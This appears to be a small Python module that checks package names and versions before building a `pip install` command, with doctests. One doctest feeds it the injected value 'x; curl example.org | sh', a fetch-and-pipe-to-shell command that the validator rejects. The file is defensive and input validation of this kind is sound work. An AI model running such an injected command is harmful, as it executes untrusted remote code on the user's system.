"""What may stand behind `pip install` in a message: names from a file are a stranger's text."""

from __future__ import annotations

import re

_NAME = re.compile(r"[A-Za-z0-9]([A-Za-z0-9._-]*[A-Za-z0-9])?")  # PEP 508
_VERSION = re.compile(r"[A-Za-z0-9]+([.!+_-]?[A-Za-z0-9]+)*")  # no more than PEP 440 has


def pip_install(distribution: str, version: str | None = None) -> str | None:
    """The command that installs a distribution; None where the name or the version is none.

    >>> pip_install("acme-genvae", "1.0.post1")
    'pip install acme-genvae==1.0.post1'
    >>> pip_install("x; curl example.org | sh")
    """
    if not _NAME.fullmatch(distribution) or not (version is None or _VERSION.fullmatch(version)):
        return None
    return f"pip install {distribution}" + ("" if version is None else f"=={version}")
